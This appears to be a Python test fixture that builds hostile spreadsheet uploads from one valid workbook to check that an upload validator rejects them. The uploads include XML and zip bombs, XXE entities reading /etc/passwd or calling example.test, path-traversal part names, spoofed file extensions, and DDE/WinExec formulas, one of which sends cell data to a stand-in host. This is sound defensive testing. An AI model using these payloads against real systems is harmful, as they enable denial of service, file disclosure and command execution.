"""Three hundred files that nobody should be able to upload, made from one sound workbook."""

import io
import random
import struct
import warnings
import zipfile

from apps.core.exporting import workbook
from apps.criteria.sheets import to_workbook
from tests.reporting import sheets_kit as kit
from tests.reporting.operators_xml import add_sheet

SEED = 41
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
XML_PARTS = (kit.BOOK, kit.SHEET_PART, kit.HIDDEN_PART, kit.TEXTS, kit.STYLES)
MORE_PARTS = ("[Content_Types].xml", "xl/_rels/workbook.xml.rels", "docProps/core.xml")
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
)
DOCTYPES = [
    "<!DOCTYPE a>",
    f"<!DOCTYPE a [{LAUGHS}]>",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE a SYSTEM "http://example.test/x.dtd">',
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://example.test/x"> %p;]>',
]
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "utf-7"]
ACTIVE = [
    *("xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml", "xl/activeX/a.bin"),
    *("xl/externalLinks/externalLink1.xml", "xl/ExternalLinks/e.xml", "xl/connections.xml"),
    *("xl/embeddings/oleObject1.bin", "xl/ctrlProps/c.xml", "xl/dialogsheets/d.xml"),
    *("xl/queryTables/q.xml", "customUI/customUI14.xml", "xl/webextensions/w.xml", "xl/model/m"),
]
NAMES = [
    *("bieu.xlsm", "bieu.xls", "bieu.xlsb", "bieu.csv", "bieu.xlsx.exe", "bieu", "bieu.xlsx.zip"),
    *("bieu.хlsx", "bieu．xlsx", "bieu.xls\u0445", "bieu.x1sx", "bieu.xlsx.", "bieu\u202exslx.exe"),
    *(
        "bieu.ｘｌｓｘ",
        "bieu.xlsx_",
        "xlsx",
        "bieu.xlsx;.exe",
        "bieu.xltx",
        "bieu.XLSM",
        "bieu.ods",
    ),
]
FORMULAS = [
    'HYPERLINK("http://example.test?x="&amp;A1)',
    'WEBSERVICE("http://example.test")',
    "cmd|' /C calc'!A0",
    "[1]Sheet1!A1",
    "'\\\\server\\share\\[b.xlsx]S'!A1",
    'CALL("kernel32","WinExec","JC","calc",0)',
    'EXEC("calc")',
    'INDIRECT("ANCS!A1")',
]


def hostile(content, place):
    """``(what, name of the file, bytes)`` of each; ``place`` is a cell that may be typed in."""
    parts = kit.parts_of(content)
    rng = random.Random(SEED)
    for make in (bombs, entities, encodings, active, structures, other_files, shortened, zips):
        yield from ((what, "bieu.xlsx", made) for what, made in make(parts, content, rng))
    yield from ((f"name {name}", name, content) for name in NAMES)
    for what, made in (*formulas(parts, place), *identities(parts), *sheets(parts)):
        yield what, "bieu.xlsx", made


def deflated(parts):
    return kit.packed(parts, zipfile.ZIP_DEFLATED)


def bombs(parts, content, _rng):
    spaces = b"<a>" + b" " * 60_000_000 + b"</a>"
    yield "bomb in a picture", deflated({**parts, "xl/media/image1.xml": spaces})
    yield "bomb in the sheet", deflated({**parts, kit.SHEET_PART: spaces})
    yield (
        "bomb in many parts",
        deflated(parts | {f"xl/media/{n}.bin": b"\0" * 400_000 for n in range(150)}),
    )
    inner = deflated({"a": b"\0" * 9_000_000})
    yield "bomb in a bomb", deflated({**parts, "xl/media/a.zip": inner * 40})
    yield "lying about its size", lying(deflated({**parts, kit.SHEET_PART: spaces[:9_000_000]}))
    tall = parts[kit.SHEET_PART]
    for count, piece in (
        (110_000, b"<c/>"),
        (60_000, b'<row r="1"></row>'),
        (200_000, b"<a>"),
        (110_000, b'<c r="A1"/>'),
    ):
        more = tall.replace(b"</sheetData>", piece * count + b"</sheetData>")
        yield f"{count} elements", kit.packed({**parts, kit.SHEET_PART: more})
    for part in (kit.TEXTS, kit.STYLES, kit.BOOK):
        end = b"</" + parts[part].rpartition(b"</")[2]
        more = parts[part].replace(end, b"<si><t/></si>" * 60_000 + end)
        yield f"mountain in {part}", kit.packed({**parts, part: more})
    for count in (201, 1000, 4000):
        yield f"{count} parts", kit.packed(parts | {f"xl/media/{n}": b"" for n in range(count)})
    yield "over 2 MB", content + b"\0" * 2_100_000


def lying(content):
    """The directory says that every part is small."""
    at, made = content.find(b"PK\x01\x02"), bytearray(content)
    while at >= 0:
        made[at + 24 : at + 28] = struct.pack("<I", 5000)
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def entities(parts, _content, _rng):
    for part in (*XML_PARTS, *MORE_PARTS):
        for number, doctype in enumerate(DOCTYPES):
            head, _sep, rest = parts[part].decode().partition("?>")
            made = f"{head}?>{doctype}{rest}".encode()
            yield f"DOCTYPE {number} in {part}", kit.packed({**parts, part: made})


def encodings(parts, _content, _rng):
    for part in XML_PARTS:
        for encoding in ENCODINGS:
            text = parts[part].decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
            text = text.replace("?>", f"?>{DOCTYPES[1]}", 1)
            made = text.encode(encoding, "ignore")
            yield f"{encoding} in {part}", kit.packed({**parts, part: made})


def active(parts, _content, _rng):
    for name in ACTIVE:
        yield f"active {name}", kit.packed({**parts, name: b"<a/>"})
    types = parts["[Content_Types].xml"].replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    yield "macro type", kit.packed({**parts, "[Content_Types].xml": types})
    relations = parts["xl/_rels/workbook.xml.rels"]
    for target in ("http://example.test/s.xml", "file:///etc/passwd"):
        made = relations.replace(
            b'Target="worksheets/sheet1.xml"', f'Target="{target}" TargetMode="External"'.encode()
        )
        yield f"sheet from {target}", kit.packed({**parts, "xl/_rels/workbook.xml.rels": made})
    for target in (
        b"../../../etc/passwd",
        b"nowhere.xml",
        b"",
        b"/xl/styles.xml",
        b"sheet\x3f.xml",
    ):
        made = relations.replace(b"worksheets/sheet1.xml", target)
        yield f"sheet from {target}", kit.packed({**parts, "xl/_rels/workbook.xml.rels": made})


def structures(parts, _content, _rng):
    for part in (*XML_PARTS, "xl/_rels/workbook.xml.rels"):
        if part != kit.STYLES:
            gone = {name: inside for name, inside in parts.items() if name != part}
            yield f"without {part}", kit.packed(gone)
            yield f"empty {part}", kit.packed({**parts, part: b""})
            yield f"nonsense in {part}", kit.packed({**parts, part: b"<a><b></a>"})
    for ref in ("A1:XFD1048576", "F8:F9", "A", "F8:", "$F$8:F9", "Z1:A1"):
        made = f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>'.encode()
        sheet = parts[kit.SHEET_PART].replace(b"</sheetData>", made)
        yield f"merged {ref}", kit.packed({**parts, kit.SHEET_PART: sheet})
    deep = b"<a>" * 30_000 + b"</a>" * 30_000
    for part in (kit.SHEET_PART, kit.TEXTS, kit.BOOK):
        end = b"</" + parts[part].rpartition(b"</")[2]
        made = parts[part].replace(end, deep + end)
        if part != kit.SHEET_PART:
            made = made[:-3]
        yield f"deep {part}", kit.packed({**parts, part: made})


def other_files(parts, content, _rng):
    definition = kit.definition_of("demo-ancs")
    yield "criteria workbook", to_workbook(definition, number="1.0")
    yield "list", workbook("Danh sách", ["Mã"], [["B1"]])
    yield "csv", "Mã;Kết quả\nB1;5\n".encode()
    yield "html", b"<html><table><tr><td>B1</td></tr></table></html>"
    yield "pdf", b"%PDF-1.7\n" + b"0" * 500
    yield "gzip", b"\x1f\x8b" + b"\0" * 100
    yield "nothing", b""
    yield "one sign", b"P"
    yield "xls", OLE + b"\0" * 3000
    yield "encrypted", OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 999
    yield "document", kit.packed({"word/document.xml": b"<a/>", "[Content_Types].xml": b"<a/>"})
    binary = {k: v for k, v in parts.items() if k != kit.BOOK}
    yield "xlsb", kit.packed({**binary, "xl/workbook.bin": b"\x83\x01\x00"})
    yield "workbook in a zip", kit.packed({"bieu.xlsx": content})
    made = bytearray(content)
    at = content.find(b"PK\x01\x02")
    made[at + 8] |= 1
    yield "password of the zip", bytes(made)


def shortened(_parts, content, rng):
    for _number in range(60):
        yield "cut off", content[: rng.randrange(4, len(content) - 20)]


def zips(parts, _content, _rng):
    for name in ("../x.xml", "xl/../../x", "/etc/passwd", "xl\\x.xml", "C:/x", "a/../b"):
        yield f"part {name}", kit.packed({**parts, name: b"<a/>"})
    for name in (kit.SHEET_PART, kit.HIDDEN_PART, kit.TEXTS, kit.BOOK):
        yield f"twice {name}", doubled(parts, name, name)
        yield f"twice {name} by case", doubled(parts, name, name.upper())


def doubled(parts, name, second):
    buffer = io.BytesIO(kit.packed(parts))
    with zipfile.ZipFile(buffer, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr(second, parts[name])
    return buffer.getvalue()


def formulas(parts, place):
    for formula in FORMULAS:
        for inside in (f"<f>{formula}</f>", f"<f>{formula}</f><v>5</v>"):
            for where in (place, "A1"):
                made = dict(parts)
                kit.put(made, where, "", inside)
                yield f"formula {formula} in {where}", kit.packed(made)


def identities(parts):
    """Sheets of other units and periods, and identities that were not signed for this one."""
    for unit in ("cao-thang", "hong-gai", "bãi-chay"):
        yield f"unit {unit}", kit.sheet_of("demo-ancs", unit=unit)
    for name in kit.NAMES:
        yield f"criteria {name}", kit.sheet_of(name)
    foreign = kit.parts_of(kit.sheet_of("demo-ancs", unit="cao-thang"))
    other = {**parts, kit.HIDDEN_PART: foreign[kit.HIDDEN_PART], kit.TEXTS: foreign[kit.TEXTS]}
    yield "identity of another", kit.packed(other)
    texts = parts[kit.TEXTS].decode()
    start = texts.index("<t>.e") if "<t>.e" in texts else texts.index("<t>eyJ")
    for step in (5, 40, 200, 400):
        sign = texts[start + step]
        made = f"{texts[: start + step]}{'A' if sign != 'A' else 'B'}{texts[start + step + 1 :]}"
        yield f"identity changed at {step}", kit.packed({**parts, kit.TEXTS: made.encode()})
    empty = parts[kit.SHEET_PART].split(b"<sheetData>")[0] + b"<sheetData/></worksheet>"
    yield "no identity", kit.packed({**parts, kit.HIDDEN_PART: empty})
    book = parts[kit.BOOK].replace(b'name="ANCS"', b'name="ANC"')
    yield "hidden sheet renamed", kit.packed({**parts, kit.BOOK: book})


class _Holder:
    def __init__(self, parts):
        self.parts = dict(parts)


def sheets(parts):
    """Look-alike sheets beside the real one."""
    for name in ("Báo cáo ", "Bао cáo", "BÁO CÁO", "ANCS ", "Sheet1", "B\u00e1o ca\u0301o"):
        holder = _Holder(parts)
        add_sheet(holder, name)
        yield f"sheet {name}", kit.packed(holder.parts)
